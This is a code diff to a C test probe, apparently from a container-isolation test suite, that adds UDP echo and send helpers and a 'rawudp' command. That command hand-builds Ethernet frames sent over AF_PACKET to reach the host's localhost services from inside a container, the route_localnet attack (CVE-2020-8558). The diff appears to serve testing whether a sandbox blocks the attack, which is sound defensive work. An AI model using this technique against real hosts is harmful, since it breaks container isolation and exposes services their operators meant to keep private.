@@ -9,6 +9,13 @@
  *
  * Build: gcc -static -O2 -o probe probe.c (tests/probe/build.py does it). */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+#include <net/if.h>
+#include <sys/ioctl.h>
+#include <netinet/in.h>
+#include <sys/time.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -251,10 +258,109 @@ static int opens(int argc, char **argv)
     return 0;
 }
 
+/* udp-echo PORT: answer each datagram with "echo:" and its bytes, for ever (busybox's
+ * nc has no UDP); udp-send ADDR PORT TEXT: send TEXT, print the answer (2 s at most). */
+static int udp_echo(int port)
+{
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0)
+        return perror("udp-echo"), 1;
+    printf("listening\n");
+    fflush(stdout);
+    for (;;) {
+        char buf[1500] = "echo:";
+        struct sockaddr_in from;
+        socklen_t len = sizeof from;
+        ssize_t n = recvfrom(s, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&from, &len);
+        if (n >= 0)
+            sendto(s, buf, (size_t)n + 5, 0, (struct sockaddr *)&from, len);
+    }
+}
+
+static int udp_send(const char *addr, int port, const char *text)
+{
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    struct timeval tv = {2, 0};
+    char buf[1500];
+    if (s < 0 || inet_pton(AF_INET, addr, &a.sin_addr) != 1)
+        return 2;
+    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+    sendto(s, text, strlen(text), 0, (struct sockaddr *)&a, sizeof a);
+    ssize_t n = recv(s, buf, sizeof buf - 1, 0);
+    if (n < 0)
+        return perror("udp-send"), 1;
+    buf[n] = 0;
+    printf("%s\n", buf);
+    return 0;
+}
+
+/* rawudp IFNAME DSTMAC SRCIP DSTIP DPORT TEXT: one UDP datagram in a hand-made Ethernet
+ * frame sent with AF_PACKET (NET_RAW, one of Docker's default capabilities): it bypasses
+ * the container's routing, so a destination such as 127.0.0.1 goes out to DSTMAC, the
+ * host's bridge (the route_localnet attack, CVE-2020-8558). */
+static unsigned short ip_sum(const unsigned char *p, int n)
+{
+    unsigned long sum = 0;
+    for (int i = 0; i < n; i += 2)
+        sum += (unsigned long)(p[i] << 8 | p[i + 1]);
+    while (sum >> 16)
+        sum = (sum & 0xffff) + (sum >> 16);
+    return (unsigned short)~sum;
+}
+
+static int rawudp(char **argv)
+{
+    unsigned char f[1514] = {0}, mac[6];
+    unsigned m[6];
+    if (sscanf(argv[3], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
+        return 2;
+    for (int i = 0; i < 6; i++)
+        mac[i] = (unsigned char)m[i];
+    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
+    struct ifreq ifr = {0};
+    strncpy(ifr.ifr_name, argv[2], IFNAMSIZ - 1);
+    if (s < 0 || ioctl(s, SIOCGIFHWADDR, &ifr) < 0 || ioctl(s, SIOCGIFINDEX, &ifr) < 0)
+        return perror("rawudp"), 1;
+    size_t len = strlen(argv[7]);
+    memcpy(f, mac, 6);
+    memcpy(f + 6, ifr.ifr_hwaddr.sa_data, 6);
+    f[12] = 0x08;
+    unsigned char *ip = f + 14, *udp = ip + 20;
+    ip[0] = 0x45;
+    ip[2] = (unsigned char)((28 + len) >> 8);
+    ip[3] = (unsigned char)(28 + len);
+    ip[8] = 64;
+    ip[9] = 17;
+    inet_pton(AF_INET, argv[4], ip + 12);
+    inet_pton(AF_INET, argv[5], ip + 16);
+    unsigned short sum = ip_sum(ip, 20);
+    ip[10] = (unsigned char)(sum >> 8);
+    ip[11] = (unsigned char)sum;
+    int dport = atoi(argv[6]);
+    udp[0] = 0x9c, udp[1] = 0x40; /* source port 40000 */
+    udp[2] = (unsigned char)(dport >> 8), udp[3] = (unsigned char)dport;
+    udp[4] = (unsigned char)((8 + len) >> 8), udp[5] = (unsigned char)(8 + len);
+    memcpy(udp + 8, argv[7], len);
+    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6};
+    memcpy(to.sll_addr, mac, 6);
+    if (sendto(s, f, 14 + 28 + len, 0, (struct sockaddr *)&to, sizeof to) < 0)
+        return perror("rawudp send"), 1;
+    printf("sent\n");
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     const char *cmd = argc > 1 ? argv[1] : "";
     const char *arg = argc > 2 ? argv[2] : "0";
+    if (!strcmp(cmd, "rawudp") && argc > 7)
+        return rawudp(argv);
+    if (!strcmp(cmd, "udp-echo"))
+        return udp_echo(atoi(arg));
+    if (!strcmp(cmd, "udp-send") && argc > 4)
+        return udp_send(argv[2], atoi(argv[3]), argv[4]);
     if (!strcmp(cmd, "pid"))
         return printf("%d\n", getpid()) < 0;
     if (!strcmp(cmd, "caps"))
